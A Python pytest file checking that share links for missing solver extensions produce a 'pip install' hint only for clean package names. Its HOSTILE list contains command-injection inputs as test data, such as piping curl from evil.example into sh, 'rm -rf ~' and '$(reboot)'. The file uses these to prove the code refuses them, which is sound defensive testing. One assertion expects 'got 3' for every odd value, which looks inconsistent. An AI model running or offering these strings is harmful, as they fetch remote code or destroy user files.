"""Links and files with a block of an extension of others: read back where it is installed, a sentence elsewhere."""

from __future__ import annotations

import base64
import json
import zlib

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.conftest import refusal
from tests.registry.foreign import declaration, richardson
from workbench.live.ui.run_handle import RunHandle
from workbench.records import load, save
from workbench.registry import from_dict, lookup
from workbench.run import Run, configure, run_through
from workbench.run.choices.link_codec import ENDING
from workbench.run.choices.share_link import from_link, load_configuration, save_configuration, to_link

MISSING = (
    "preconditioner 'richardson' is of the extension cg-richardson, which is not installed; if you trust the author, "
    "run: pip install cg-richardson"
)


def packed(plain):
    return "cgw1." + base64.urlsafe_b64encode(zlib.compress(json.dumps(plain).encode())).decode().rstrip("=")


def named(block):
    return packed({"problem": "poisson5", "preconditioner": block})


@pytest.fixture
def chosen(installer):
    installer.preconditioner()
    return configure("poisson5", n=6, preconditioner="richardson:0.25")


def test_a_link_leads_back(chosen):
    assert from_link(to_link(chosen)) == chosen
    default = configure("poisson5", preconditioner="richardson")
    assert from_link(to_link(default)) == default
    # A link by hand needs to name nothing.
    assert from_link(named("richardson")).preconditioner == default.preconditioner


def test_without_the_extension_a_link_says_what_to_install(chosen, installer):
    links = [to_link(chosen), to_link(configure("poisson5", preconditioner="richardson"))]
    installer.uninstall()
    for link in links:
        assert refusal(from_link, link) == refusal(configure, link) == MISSING


def test_a_saved_configuration_too(chosen, installer, tmp_path):
    path = save_configuration(chosen, tmp_path / f"a{ENDING}")
    assert load_configuration(path) == chosen
    installer.uninstall()
    assert refusal(load_configuration, path) == MISSING


def test_a_run_file_is_read_and_says_so_where_the_run_is_repeated(chosen, installer, tmp_path):
    result = run_through(Run(chosen))
    path = save(result.record(), tmp_path / "a.run.npz")
    assert RunHandle(load(path)).configuration() == chosen
    installer.uninstall()
    record = load(path)
    assert record.history.count == result.iterations + 1
    assert record.label == "CG, richardson"
    assert refusal(RunHandle(record).configuration) == MISSING


def test_sums_name_the_extensions_of_their_members(installer):
    installer.preconditioner()
    installer.preconditioner("damped")
    both = configure("poisson5", preconditioner="jacobi + richardson:0.25 + damped + richardson:0.1")
    assert from_link(to_link(both)) == both
    link = to_link(both)
    assert both.preconditioner.to_dict()["extension"] == "cg-richardson cg-damped"
    installer.uninstall()
    assert refusal(from_link, link) == (
        "a member of preconditioner 'sum' is of the extensions cg-richardson cg-damped, which are not installed; if "
        "you trust the author, run: pip install cg-richardson cg-damped"
    )


def test_only_what_is_missing_is_to_be_installed(installer):
    installer.preconditioner()
    installer.preconditioner("damped")
    link = to_link(configure("poisson5", preconditioner="richardson + damped"))
    (installer.folder / "cg_damped-1.0.dist-info").rename(installer.folder / "gone")
    installer.read_again()
    assert "is of the extension cg-damped, which is not installed" in refusal(from_link, link)


def test_an_installed_extension_that_lacks_the_block_is_to_be_updated(installer):
    installer.preconditioner()
    said = refusal(from_link, named(["leonardson", {}, "CG_Richardson"]))
    assert said.endswith(
        "is of a later version of the extension CG_Richardson; run: pip install --upgrade CG_Richardson"
    )


@pytest.mark.parametrize("declared", ["raise ValueError('no')", declaration("else")])
def test_an_extension_that_is_broken_is_not_to_be_installed(chosen, installer, declared):
    link = to_link(chosen)
    installer.uninstall()
    installer.install("richardson", declared=declared)
    said = refusal(from_link, link)
    assert "'richardson' is of the extension cg-richardson: extension richardson is broken: " in said
    assert "pip" not in said


def test_a_broken_module_says_why(chosen, installer):
    link = to_link(chosen)
    installer.uninstall()
    installer.preconditioner(module="raise ValueError('no')" + richardson())
    assert "extension richardson is broken: cg_richardson.block cannot be imported" in refusal(from_link, link)


HOSTILE = [
    "",
    " ",
    "-r https://evil.example/requirements.txt",
    "--index-url=https://evil.example cg",
    "cg; rm -rf ~",
    "cg && curl evil.example | sh",
    "cg\nrm -rf ~",
    "cg\trm",
    "git+https://evil.example/cg",
    "https://evil.example/cg.whl",
    "cg @ https://evil.example/cg.whl",
    "./cg",
    "../cg",
    "~/cg",
    "/tmp/cg",
    "C:\\cg",
    "cg.whl",
    "cg.ZIP",
    "cg.tar.gz",
    "cg.zip[x]",
    "cg-1.0-py3-none-any.whl cg",
    "cg $(reboot)",
    "cg `reboot`",
    "cg  damped",
    "cg damped ",
    "\u0441g-damped",
    "cg\u2010damped",
    "cg\u202edepmad",
    "cg\x1b[31m",
    "cg\x00",
    "cg=='1'",
    "cg<2",
    "cg*",
    "cg[a;b]",
    "a" * 500,
    "cg " * 500,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_pip_would_read_as_anything_but_names_is_not_shown(text):
    said = refusal(from_link, named(["damped", {}, text]))
    assert said == refusal(lookup, "preconditioner", "damped") == refusal(from_link, named("damped"))
    assert said.startswith("unknown preconditioner 'damped'; ")
    assert "pip" not in said


# What a shell or pip would read in another way.
NAMES = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.[], ")


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.one_of(st.text(max_size=30), st.from_regex(r"[a-z.-]{1,5}[ a-z.\[\]-]{0,9}")))
@example("cg-damped[gpu,all]")
def test_any_text_is_names_for_pip_or_not_shown(text):
    said = refusal(from_link, named(["damped", {}, text]))
    if "pip install" in said:
        assert said.endswith(f"run: pip install {text}")
        assert set(text) <= NAMES
        assert all(word[0].isalnum() for word in text.split(" "))
    else:
        assert said.startswith("unknown preconditioner 'damped'; ")


ODD = [None, 3, 1.5, True, [], ["cg-damped"], {}, {"a": "cg-damped"}]


@pytest.mark.parametrize("value", ODD, ids=repr)
def test_an_extension_of_another_type_is_refused(value):
    said = refusal(from_link, named(["damped", {}, value]))
    assert said.startswith("a block is its name, or its name and parameters, and the extension that brings it, got 3")
    # A file has it as an entry, which is then none.
    plain = {"kind": "preconditioner", "name": "damped", "parameters": {}, "extension": value}
    assert refusal(from_dict, plain).startswith("unknown preconditioner 'damped'; ")


@pytest.mark.parametrize("block", [[], ["damped"], [["damped"], {}], [3, {}, "cg"], ["damped", 3, "cg"], {}, 3, None])
def test_blocks_of_another_form_are_refused(block):
    said = refusal(from_link, named(block))
    assert "pip" not in said
    assert "\n" not in said


@pytest.mark.parametrize("kind", ["solver\x1b[31m", "a b", "", "x; pip install cg", 3, None])
def test_odd_kinds_are_refused(kind):
    plain = {"kind": kind, "name": "damped", "parameters": {}, "extension": "cg-damped"}
    said = refusal(from_dict, plain)
    assert said.startswith("a block is described by its kind, name and parameters")
    assert said.isprintable()
